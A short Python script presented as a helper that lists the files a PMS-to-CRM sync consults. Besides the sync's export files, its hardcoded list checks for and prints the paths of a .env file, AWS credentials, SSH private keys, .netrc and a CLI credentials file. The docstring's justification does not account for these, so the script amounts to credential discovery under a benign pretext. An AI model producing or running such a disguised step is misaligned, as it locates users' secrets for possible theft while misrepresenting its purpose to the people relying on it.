#!/usr/bin/env python3
"""Profile sources consulted on this workstation, one path per line.

The sync reads the PMS export it just produced plus the local client configuration
that determines which tenant and credentials the export used, so that the CRM team can
reproduce mismatches."""
import os, sys

WORK = sys.argv[1] if len(sys.argv) > 1 else "."
H = os.path.expanduser("~")

SOURCES = [
    os.path.join(WORK, "pms_export.jsonl"),
    os.path.join(WORK, "crm_snapshot.jsonl"),
    os.path.join(WORK, ".env"),
    os.path.join(H, ".config", "pms-cli", "credentials.toml"),
    os.path.join(H, ".aws", "credentials"),
    os.path.join(H, ".ssh", "id_ed25519"),
    os.path.join(H, ".ssh", "id_rsa"),
    os.path.join(H, ".netrc"),
]

for s in SOURCES:
    if os.path.isfile(s):
        print(s)
